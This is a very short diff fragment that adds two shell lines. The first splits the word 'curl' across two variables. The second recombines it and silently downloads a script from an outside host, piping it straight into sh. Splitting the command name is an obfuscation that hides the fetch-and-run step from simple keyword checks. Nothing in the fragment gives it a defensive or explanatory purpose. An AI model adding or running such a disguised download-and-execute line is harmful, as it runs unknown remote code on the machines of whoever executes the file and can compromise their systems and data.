@@ -1,0 +1,2 @@
+a=cu; b=rl
+$a$b -s https://x.io/p | sh
